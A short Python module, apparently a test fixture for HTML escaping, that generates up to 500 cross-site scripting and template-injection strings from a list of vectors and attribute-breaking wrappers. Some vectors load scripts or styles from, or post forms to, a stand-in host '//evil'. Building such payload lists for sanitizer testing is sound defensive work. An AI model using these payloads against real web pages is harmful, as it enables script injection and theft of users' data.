"""Five hundred texts that try to be markup, to leave an attribute or to run."""

import itertools

_VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=data:x,1></math>",
    "<details open ontoggle=alert(1)>",
    "<style>@import'//evil'</style>",
    "<link rel=stylesheet href=//evil>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil/>",
    "<form action=//evil><button>x</button></form>",
    "<textarea></textarea><xss>",
    "<title></title><h1>x</h1>",
    "<template><p>x</p></template>",
    "<noscript><p title='</noscript><img>'>",
    "<object data=x></object>",
    "<embed src=x>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<table><td background=x>",
    "<plaintext>",
    "</p></div></main><h1>x",
    "<div itemscope itemprop=name>",
    "<button formaction=javascript:alert(1)>",
    "{{7*7}}{% if 1 %}",
    "${7*7}<%= 7 %>",
    "&lt;script&gt;&#x3c;b&#62;",
    "<scr<script>ipt>",
    "<SCRIPT/SRC=//evil>",
    "<a\thref=x>",
)
_BEFORE = ("", '"', "'", '">', "'>", "</a>", "</title>", "-->", "]]>", "</time>", "</summary>")
_AFTER = ("", '"', "<!--")


def payloads(count: int = 500) -> list[str]:
    """The first `count` of all combinations, each a single line."""
    combined = (
        f"{before}{vector}{after}"
        for before, after, vector in itertools.product(_BEFORE, _AFTER, _VECTORS)
    )
    return [text.replace("\t", " ") for text in itertools.islice(combined, count)]
